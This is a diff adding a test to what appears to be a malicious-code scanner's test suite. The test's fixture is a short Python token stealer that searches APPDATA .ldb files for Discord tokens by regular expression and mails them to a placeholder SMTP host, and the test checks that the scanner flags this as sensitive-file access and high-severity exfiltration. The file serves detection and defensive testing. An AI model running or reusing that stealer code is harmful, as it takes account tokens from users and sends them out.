@@ -221,3 +221,20 @@ test('credential files read in a loop over a list of their paths and posted late
   assert.equal(sent?.severity, 'high');
   assert.match(sent!.message, /AWS credentials/);
 });
+
+test("a Discord token's shape written as a regular expression marks what is matched as tokens; mailing them is exfiltration", () => {
+  const source = [
+    'import os, re, glob, smtplib',
+    'def scan():',
+    '    tokens = []',
+    '    for f in glob.glob(os.path.join(os.getenv("APPDATA"), "**", "*.ldb"), recursive=True):',
+    '        tokens += re.findall(r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}", open(f, errors="ignore").read())',
+    '    s = smtplib.SMTP("smtp.mail.example", 587)',
+    '    s.sendmail("a@mail.example", "b@mail.example", "\\n".join(tokens))',
+  ].join('\n');
+  const list = findings(source);
+  assert.match(list.find((f) => f.rule === 'sensitive-file-access')?.message ?? '', /Discord tokens/);
+  const sent = list.find((f) => f.rule === 'exfiltration');
+  assert.equal(sent?.severity, 'high');
+  assert.match(sent!.message, /Discord tokens/);
+});
